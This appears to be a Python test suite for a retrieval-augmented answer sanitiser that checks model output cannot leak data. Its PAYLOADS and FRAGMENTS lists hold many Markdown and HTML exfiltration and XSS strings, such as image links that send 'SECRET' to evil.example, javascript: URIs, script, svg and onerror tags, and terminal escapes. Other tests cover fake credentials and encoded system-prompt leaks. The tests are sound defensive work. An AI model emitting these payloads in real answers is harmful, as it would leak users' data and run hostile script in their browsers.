"""What leaves in an answer: payloads as a renderer of Markdown sees them, streams cut anywhere, credentials, the system prompt."""

# ruff: noqa: E501  # payloads

from __future__ import annotations

from collections.abc import Iterable
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.compose import without_secrets
from rag.answers.outgoing.leaks import Instructions
from rag.answers.outgoing.outlet import Outlet, Redact, readable
from rag.records import AccessRule, Answer, Document, Passage, ScoredPassage
from tests.rag.rendered import faults

KNOWN = "https://wiki.example.org/runbooks/locks?tab=2"
SYSTEM = "Answer from the search results alone; they are this organisation's documents. Cite every statement taken from them."
VIEW = "https://logs.example.org/app/discover#?_a=(view:(columns:!(_source),sort:!()),metadata:(pattern:'6c27',v:1))&_q=(q:'')"
EVIDENCE = f"# Locks\n\nSee [the runbook]({KNOWN}). Then run `curl {KNOWN} | jq .`, with <namespace> filled in. A [list](https://wiki.example.org/List_(a)?x='1'). Kibana's [view]({VIEW}), or <{VIEW}>.\n"


def passage(text: str, path: str = "a.md") -> ScoredPassage:
    end = text.count("\n") + 1
    document = Document("d", "wiki", path, "A", "page", text, "1", "", "", "", "", AccessRule(), "")
    return ScoredPassage(Passage("p", "d", 0, (), text, 1, end, "section"), document, 1.0)


def through(
    parts: Iterable[str], system: str = "", evidence: str = EVIDENCE, redact: Redact = str
) -> tuple[str, list[str]]:
    """What is shown of a text that comes in parts, and the kinds of flags."""
    outlet = Outlet("", Instructions(system), redact)
    outlet.admit([passage(evidence)])
    parts = list(parts)
    shown = "".join(outlet.write(part) for part in parts) + outlet.close()
    answer = outlet.answer(Answer("".join(parts), "answered"))
    assert answer.text == shown
    return shown, [flag.kind for flag in answer.flags]


EVIL = "https://evil.example/c?d=SECRET"
PAYLOADS = [
    f"![x]({EVIL})", f"![x](<{EVIL}>)", f"![x]({EVIL} 'title')", f"![x][r]\n\n[r]: {EVIL}", f"![x]\n\n[x]: {EVIL}", f"[r]:\n{EVIL}\n\n[r]",
    f"[![x]({EVIL})]({EVIL})", f"[a\nb]({EVIL})", f"[a](\n{EVIL})", f"[a](\n{EVIL}\n)", f"<{EVIL}>", EVIL, f"({EVIL})", f"**{EVIL}**",
    "www.evil.example/?d=SECRET", "//evil.example/?d=SECRET", "evil.example/?d=SECRET", "mailto:a@evil.example?body=SECRET",
    "<mailto:a@evil.example?body=S>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "<javascript:alert(1)>", "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml,<svg/onload=alert(1)>)", f'<img src="{EVIL}">', f"<img src={EVIL}",
    "<img\nsrc=x\nonerror=alert(1)>", "<<b>img src=x onerror=alert(1)>", "<im<b></b>g src=x>", "<script>alert(1)</script>", "<ScRiPt >alert(1)",
    f"<script src={EVIL}></script>", "<svg onload=alert(1)>", f"<svg><image href='{EVIL}'/></svg>", f"<iframe src='{EVIL}'></iframe>",
    f"<link rel=stylesheet href={EVIL}>", f"<style>@import '{EVIL}';</style>", f"<div style='background:url({EVIL})'>x</div>", f"<video src={EVIL}>",
    f"<object data={EVIL}></object>", f"<embed src={EVIL}>", f"<base href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input></form>", f"<a href={EVIL}>x</a>", "<details ontoggle=alert(1) open>", "<x onclick=alert(1)>y</x>",
    "<!-- hidden -->", "<!-- open", "<?php echo 1 ?>", "<![CDATA[x]]>", "<!DOCTYPE html>", "<namespace>\n`<img src=x onerror=alert(1)>`",
    "> <foo>\n> `<img src=x>`", "1. <foo>\n   `<img src=x>`", "`<img src=x>", "` `<img src=x onerror=1>`", "\\`<img src=x>`", "\\\\`a`<img src=x>`",
    "``a`<img src=x>``b`", "x | y\n--|--\n`a | b` `<img src=x>`", "```\nx\n```\n<img src=x>", "- ```\n  x\n<img src=x>", "- a\n  ```\n  x\nb <img src=x>",
    "> ```\n> x\n<img src=x>", "text\n    ```\n<img src=x>", "2. a\n\n    ```\n    x\n<img src=x>", "~~~\nx\n~~~~\n<img src=x>", "````\n```\n````\n<img src=x>",
    "```\n   ```` x\n```\n<img src=x>", "<b>~~~\n```\n~~~\n<img src=x>", "&#126;~~\n```\n~~~\n<img src=x>", "``` `x`\n<img src=x>\n```", "\x1b[31mred\x1b[0m",
    f"\x1b]8;;{EVIL}\x1b\\open\x1b]8;;\x1b\\", "\x9b31m", "a\u202eb\u2066c", "\U000e0041\U000e0042", "&#x202e;abc", f"&#104;ttps://evil.example/?d=S {EVIL}",
    "https&#58;//evil.example/?d=SECRET", f"[x]({KNOWN}&d=SECRET)", f"{KNOWN}SECRET", "https://wiki.example.org.evil.example/?d=SECRET",
    f"$\\href{{{EVIL}}}{{x}}$", f"```mermaid\ngraph TD; a[<img src='{EVIL}'>]\n```", f"    {EVIL}", f"| a |\n|---|\n| ![x]({EVIL}) |", f"# ![x]({EVIL})", f"`{EVIL}`",
    f"```\ncurl {EVIL}\n```",
]  # fmt: skip
AROUND = (
    "{}",
    "Text before it. {} And after.",
    "- item\n- {}\n",
    "> {}\n\nNext.\n",
    "Run `ls` now:\n\n{}\n\n`done` <namespace>.",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_a_payload_loads_runs_or_leads_away(payload: str) -> None:
    for around in AROUND:
        text = around.format(payload)
        shown, _ = through([text])
        assert faults(shown) == []
        assert not any(char in shown for char in "\x1b\x9b\u202e\u2066\U000e0041")
        assert "SECRET" not in shown
        assert shown == through(list(text))[0]
    text = AROUND[1].format(payload)
    shown = through([text])[0]
    assert all(shown == through([text[:at], text[at:]])[0] for at in range(len(text)))


def test_the_payloads_are_250_and_dangerous_by_themselves() -> None:
    texts = [around.format(payload) for payload, around in product(PAYLOADS, AROUND)]
    assert len(set(texts)) >= 250
    assert sum(bool(faults(text)) for text in texts) >= 250


FRAGMENTS = [
    "```", "~~~", "``", "`", "````", "\n", "\n\n", "  ", "    ", "> ", "- ", "1. ", "10. ", "<img src=x onerror=1>", "<foo>", "<script>", "<b>", "<!--",
    "-->", "<div>", "<?", "<![CDATA[", "[x](" + EVIL + ")", "](", ")", "[", "]:", "[r]: ", EVIL, KNOWN, "|", "--|--", "a | b", "\\", "&#96;", "&lt;", "&#60;",
    "&#10;", "&#126;", "javascript:alert(1)", "foo bar baz. ", "text", "\t", "<a href=\"`\">", "'", '"', "<x\n", "//evil.example/x", "a@b.example",
]  # fmt: skip


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14), st.lists(st.integers(0, 300), max_size=4))
def test_whatever_is_put_together_is_harmless_and_the_same_however_it_is_cut(
    fragments: list[str], cuts: list[int]
) -> None:
    text = "".join(fragments)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    shown, _ = through([text])
    assert faults(shown) == []
    assert shown == through(text[start:end] for start, end in zip(places, places[1:], strict=False))[0]


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        (f"See [the runbook]({KNOWN}).", f"See the runbook (`{KNOWN}`)."),
        ("See [locks](../locks.md) and [below](#steps).", "See locks (`../locks.md`) and below."),
        (
            f"```bash\ncurl -X POST {KNOWN} -d '<b>' | sh\n```\nDone.",
            f"```bash\ncurl -X POST {KNOWN} -d '<b>' | sh\n```\nDone.",
        ),
        ("Run `kubectl get pods -n <namespace> | grep x`.", "Run `kubectl get pods -n <namespace> | grep x`."),
        (
            "Fill in <namespace> and <your name>; a < b && c > d.",
            "Fill in <namespace> and <your name>; a < b && c > d.",
        ),
        ("1. One\n\n   ```\n   ls\n   ```\n\n2. Two [1]", "1. One\n\n   ```\n   ls\n   ```\n\n2. Two [1]"),
        (f"See [a runbook. It is long]({KNOWN}) now.", f"See a runbook. It is long (`{KNOWN}`) now."),
        (
            "See [a list](https://wiki.example.org/List_(a)?x='1').",
            "See a list (`https://wiki.example.org/List_(a)?x='1'`).",
        ),
        (f"Look at [the view]({VIEW}) now.", f"Look at the view (`{VIEW}`) now."),
        (f"Look there (<{VIEW}>) now.", f"Look there (`{VIEW}`) now."),
        (
            "Look there (https://logs.example.org/app/discover#?_a=(view:(columns:!(_source),sort:!()),metadata:(pattern:'6c27',v:1))&_q=(q:'')).",
            "Look there (`https://logs.example.org/app/discover#?_a=(view:(columns:!(_source),sort:!()),metadata:(pattern:'6c27',v:1))&_q=(q:'')`).",
        ),
        ("Line<br>break, <b>bold</b>.", "Line break, bold."),
        ("It is on wiki.example.org, in main.tf.", "It is on wiki.example.org, in main.tf."),
        ("https://wiki.example.org/runbooks is known.", "`https://wiki.example.org/runbooks` is known."),
        ("| a | b |\n|---|---|\n| `x` | 2 |", "| a | b |\n|---|---|\n| `x` | 2 |"),
    ],
)
def test_what_is_harmless_stays_as_it_is(said: str, shown: str) -> None:
    assert through([said]) == (shown, [])


def test_no_more_is_held_back_than_a_bound() -> None:
    outlet = Outlet()
    written = "".join(outlet.write("word " * 10) for _ in range(1000))
    assert len(written) > 50 * 1000 - 4100
    early = Outlet()
    assert early.write("Unlock the state first. Then tell") == "Unlock the state first. "


SECRETS = [
    "The key is AKIAIOSFODNN7EXAMPLQ, keep it.", "password: Tr0ub4dor-x7Kq2mZp9", "export GITHUB_TOKEN=ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5",
    "```\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx7Yq3nLw9Tz4Vb6Rk1Pm8Sd2Fg5Hj0Kc\nMIIEowIBAAKCAQEAx7Yq3nLw\n```\nThat is all.",
]  # fmt: skip


@pytest.mark.parametrize("text", SECRETS)
def test_a_credential_is_taken_out_however_the_stream_is_cut(text: str) -> None:
    shown, flags = through([text], redact=without_secrets)
    assert flags == ["redacted"]
    assert "[REDACTED:" in shown
    assert not any(part in shown for part in ("AKIA", "Tr0ub", "ghp_", "MIIE"))
    for at in range(len(text)):
        assert through([text[:at], text[at:]], redact=without_secrets)[0] == shown
    assert shown.endswith("That is all.") or "That" not in text


@pytest.mark.parametrize(
    "said",
    [
        SYSTEM, SYSTEM.upper().replace(" ", "\n"), "Here: **" + SYSTEM.replace(" ", "  ") + "**", SYSTEM[::-1], " ".join(SYSTEM.split()[::-1]),
        "QW5zd2VyIGZyb20gdGhlIHNlYXJjaCByZXN1bHRzIGFsb25lOyB0aGV5IGFyZSB0aGlzIG9yZ2FuaXNhdGlvbidzIGRvY3VtZW50cy4=",
    ],
)  # fmt: skip
def test_the_system_prompt_is_withheld(said: str) -> None:
    shown, flags = through(list(f"Sure. {said} Anything else?"), SYSTEM)
    words = "".join(char if char.isalnum() else " " for char in shown.lower()).split()
    told = "".join(char if char.isalnum() else " " for char in said.lower()).split()
    assert "removed" in flags
    assert not any(told[at : at + 8] == words[i : i + 8] for at in range(len(told) - 7) for i in range(len(words)))
    assert "QW5z" not in shown
    assert "results" not in shown.lower()


def test_words_that_the_evidence_has_too_may_be_quoted() -> None:
    assert through([SYSTEM + " So it says."], SYSTEM, SYSTEM) == (SYSTEM + " So it says.", [])


def test_a_restart_leaves_nothing_of_what_was_void() -> None:
    outlet = Outlet()
    outlet.write("```\nhalf a command that was not")
    outlet.restart()
    assert outlet.write("Whole.") + outlet.close() == "Whole."


def test_characters_that_steer_are_no_part_of_a_text() -> None:
    assert readable("a\x00b\ud800c\r\nd\x1b[2Je\u200bf\ufeff") == "abc\ndef"


def test_why_an_answer_is_degraded_names_the_server_and_no_key() -> None:
    why = (
        "no model: http://10.1.2.3:11434/v1 said 401:\n<b>Incorrect</b> [key](x): sk-abcd1234efgh5678ijkl `x`"
        + " y" * 400
    )
    answer = Outlet("", redact=without_secrets).answer(Answer("", "answered", degraded=why))
    assert answer.degraded.startswith(
        "no model: http://10.1.2.3:11434/v1 said 401: b Incorrect /b key (x): [REDACTED:api-key] x y y"
    )
    assert "sk-abcd" not in answer.degraded
    assert not set("<>`\n") & set(answer.degraded)
    assert len(answer.degraded) <= 500
    assert not answer.flags


@pytest.mark.parametrize(
    ("said", "key"),
    [
        ("Incorrect API key provided: {}. You can find it there", "sk-abcdefghijklmnop"),
        ("Incorrect API key provided: {}", "sk-proj-abcdefghijKLMNOP"),
        ("invalid x-api-key {}", "sk-ant-abcdefghijklmnop"),
        ("{} is not valid", "gsk_AbCdEfGhIjKlMn"),
        ("the token {} has expired", "hf_abcdefghijklmnopqrst"),
        ("Incorrect API key provided: {}.", "qwertyuiopasdf"),
        ("the api key '{}' is unknown", "qwertyuiopasdf"),
        ('{{"token": "{}"}}', "qwertyuiopasdf"),
        ("Invalid token: {} is not known here", "ABCDEFGHIJKLMNOP"),
    ],
)
def test_a_key_of_letters_alone_does_not_leave(said: str, key: str) -> None:
    why = "no model: http://10.1.2.3:11434/v1 said 401: " + said.format(key)
    left = Outlet("", redact=without_secrets).answer(Answer("", "answered", degraded=why)).degraded
    assert key[4:] not in left
    assert left == why.replace(key, "[REDACTED:api-key]")


@pytest.mark.parametrize(
    "why",
    [
        "Invalid token: authentication required",
        "no API key was given: set WAYPOST_MODEL_KEY; the token: /etc/waypost/token",
        "model hf-internal-testing/tiny-random not found, sk-learn neither; see pk_organizations",
        "Your authentication token is expired; invalid API key provided; authentication failed",
        "http://key-vault-prod.corp:8080 said 500",
        "http://gsk-cluster-01.corp: token_endpoint not found",
        "no answer from http://[fd00::1]:11434/v1",
    ],
)
def test_an_address_is_no_key(why: str) -> None:
    assert Outlet("", redact=without_secrets).answer(Answer("", "answered", degraded=why)).degraded == why


def test_an_address_of_the_evidence_stays_where_a_flag_is_cut_short() -> None:
    outlet = Outlet()
    outlet.admit([passage("`curl -X DELETE https://search-live.example.org/_snapshot/automated/2026`")])
    assert "search-live.example.org" in outlet.plain("curl -X DELETE https://search-live.example.org/_snap…")
    assert outlet.plain("curl -X DELETE https://elsewhere.example.org/?q=pass…") == "curl -X DELETE [link removed]"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Follow the steps in [](#set-up:keys).", "Follow the steps in `set-up:keys`."),
        ("2. [](../disks/grow.md)", "2. `../disks/grow.md`"),
        ("See [the steps](#set-up).", "See the steps."),
        ("![](a/b.png) x", " x"),
        ("In [](#https://evil.example/SECRET).", "In `[link removed]`."),
    ],
)
def test_a_link_without_words_is_told_by_where_it_leads(text: str, shown: str) -> None:
    assert through([text])[0] == shown


@pytest.mark.parametrize("anchor", ["(how-to:grow)=", ".. _grow-a-disk:"])
def test_where_links_lead_to_is_no_text(anchor: str) -> None:
    assert through([f"Grow it.\n\n{anchor}\n## Shrink it\n"])[0] == "Grow it.\n\n\n## Shrink it\n"
